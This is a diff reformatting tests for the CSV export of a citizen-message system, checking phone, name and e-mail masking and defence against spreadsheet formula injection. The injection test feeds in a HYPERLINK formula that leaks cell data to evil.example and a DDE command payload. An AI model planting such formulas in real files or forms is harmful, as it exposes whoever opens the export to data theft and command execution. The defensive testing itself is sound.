@@ -19,17 +19,36 @@ beforeAll(async () => {
   w = await setupWorld(s);
   for (let i = 0; i < 12; i++) {
     const type = i % 3 === 0 ? 'COMPLAIN' : 'CONSULT';
-    const m = (await ok(s.gql(CREATE, { i: { channel: 'WEB', type, title: `台账导出测试${i}，含逗号,和"引号"`, content: '导出测试的留言内容，足够长的内容。', realName: '张三丰', phone: `1380013${String(i).padStart(4, '0')}` } }, w.t.dispatcher))).createMessage.message;
+    const m = (
+      await ok(
+        s.gql(
+          CREATE,
+          {
+            i: {
+              channel: 'WEB',
+              type,
+              title: `台账导出测试${i}，含逗号,和"引号"`,
+              content: '导出测试的留言内容，足够长的内容。',
+              realName: '张三丰',
+              phone: `1380013${String(i).padStart(4, '0')}`,
+            },
+          },
+          w.t.dispatcher,
+        ),
+      )
+    ).createMessage.message;
     serials[m.id] = m.serialNo;
     if (i < 4) await ok(s.gql(ASSIGN, { i: { messageId: m.id, leadUnitId: w.unit['hn-cs-zjj'] } }, w.t.dispatcher));
   }
 }, 60_000);
-afterAll(async () => { await s?.close(); });
+afterAll(async () => {
+  await s?.close();
+});
 
 const download = async (query: string, token?: string) => {
   const res = await fetch(`${s.url}/export/messages.csv${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
   const bytes = Buffer.from(await res.arrayBuffer());
-  return { res, bytes, records: res.status === 200 ? parse(bytes.subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>> : [] };
+  return { res, bytes, records: res.status === 200 ? (parse(bytes.subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>>) : [] };
 };
 
 test('the ledger export lists the same messages as the list with the same filter, masked, with a BOM', async () => {
@@ -41,7 +60,15 @@ test('the ledger export lists the same messages as the list with the same filter
   expect(records.map((r) => r.serialNo).sort()).toEqual(list.nodes.map((n: any) => n.serialNo).sort());
   expect(records.length).toBe(list.totalCount);
   const one = records.find((r) => r.title === '台账导出测试0，含逗号,和"引号"')!;
-  expect(one).toMatchObject({ type: '投诉', channel: '网站', citizen: '张**', phone: '138****0000', state: 'ASSIGNED', leadUnit: '长沙市住房和城乡建设局', overdue: '否' });
+  expect(one).toMatchObject({
+    type: '投诉',
+    channel: '网站',
+    citizen: '张**',
+    phone: '138****0000',
+    state: 'ASSIGNED',
+    leadUnit: '长沙市住房和城乡建设局',
+    overdue: '否',
+  });
   expect(bytes.toString('utf8')).not.toContain('张三丰');
   expect(bytes.toString('utf8')).not.toContain('13800130000');
 });
@@ -59,7 +86,23 @@ test("a unit handler's export holds only what it may see; bad filters and missin
 });
 
 test('the title in the ledger export is masked like the public views (every spelling of a phone, an e-mail, a plate)', async () => {
-  const m = (await ok(s.gql(CREATE, { i: { channel: 'WEB', type: 'CONSULT', title: '回电+86 139 1234 5670、0731-88886666、lisi@qq.com、湘A12345', content: '标题里写了联系方式的留言。', realName: '王五' } }, w.t.dispatcher))).createMessage.message;
+  const m = (
+    await ok(
+      s.gql(
+        CREATE,
+        {
+          i: {
+            channel: 'WEB',
+            type: 'CONSULT',
+            title: '回电+86 139 1234 5670、0731-88886666、lisi@qq.com、湘A12345',
+            content: '标题里写了联系方式的留言。',
+            realName: '王五',
+          },
+        },
+        w.t.dispatcher,
+      ),
+    )
+  ).createMessage.message;
   const { records, bytes } = await download('?types=CONSULT', w.t.dispatcher);
   expect(records.find((r) => r.serialNo === m.serialNo)?.title).toBe('回电139****5670、073****6666、l***@qq.com、湘A*****');
   expect(bytes.toString('utf8')).not.toMatch(/1234 5670|88886666|lisi@|A12345/);
@@ -69,7 +112,15 @@ test('no cell of an export can run as a spreadsheet formula (= + - @, tab, carri
   const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+SUM(1,2)', '-2+3', '@SUM(A1:A9)', ' =1+1'];
   const made: Record<string, string> = {};
   for (const title of titles) {
-    const m = (await ok(s.gql(CREATE, { i: { channel: 'LETTER', type: 'SUGGEST', title, content: '公式注入测试的留言内容。', realName: '=cmd|\' /C calc\'!A0', phone: '13800138000' } }, w.t.dispatcher))).createMessage.message;
+    const m = (
+      await ok(
+        s.gql(
+          CREATE,
+          { i: { channel: 'LETTER', type: 'SUGGEST', title, content: '公式注入测试的留言内容。', realName: "=cmd|' /C calc'!A0", phone: '13800138000' } },
+          w.t.dispatcher,
+        ),
+      )
+    ).createMessage.message;
     made[m.serialNo] = title.trim();
   }
   const { records, bytes } = await download('?channels=LETTER', w.t.dispatcher);
@@ -82,13 +133,28 @@ test('no cell of an export can run as a spreadsheet formula (= + - @, tab, carri
   const cells = parse(bytes.subarray(3).toString('utf8')) as string[][];
   for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   // The statistics export too: a unit named like a formula is written as text.
-  const unit = (await ok(s.gql(`mutation($i: CreateUnitInput!) { createUnit(input: $i) { unit { id } } }`, { i: { code: 'formula-unit', name: '=1+2', kind: 'DEPARTMENT', parentId: w.unit['hn-cs'] } }, w.t.admin))).createUnit.unit;
-  const m = (await ok(s.gql(CREATE, { i: { channel: 'WEB', type: 'COMPLAIN', title: '统计导出公式测试', content: '统计导出公式测试的留言内容。' } }, w.t.dispatcher))).createMessage.message;
+  const unit = (
+    await ok(
+      s.gql(
+        `mutation($i: CreateUnitInput!) { createUnit(input: $i) { unit { id } } }`,
+        { i: { code: 'formula-unit', name: '=1+2', kind: 'DEPARTMENT', parentId: w.unit['hn-cs'] } },
+        w.t.admin,
+      ),
+    )
+  ).createUnit.unit;
+  const m = (
+    await ok(s.gql(CREATE, { i: { channel: 'WEB', type: 'COMPLAIN', title: '统计导出公式测试', content: '统计导出公式测试的留言内容。' } }, w.t.dispatcher))
+  ).createMessage.message;
   await ok(s.gql(ASSIGN, { i: { messageId: m.id, leadUnitId: unit.id } }, w.t.dispatcher));
   const day = new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);
   const res = await fetch(`${s.url}/export/statistics.csv?from=${day}&to=${day}&groupBy=UNIT`, { headers: { authorization: `Bearer ${w.t.dispatcher}` } });
   expect(res.status).toBe(200);
-  const stats = parse(Buffer.from(await res.arrayBuffer()).subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>>;
+  const stats = parse(
+    Buffer.from(await res.arrayBuffer())
+      .subarray(3)
+      .toString('utf8'),
+    { columns: true },
+  ) as Array<Record<string, string>>;
   expect(stats.find((r) => r.key === unit.id)?.label).toBe("'=1+2");
 });
 
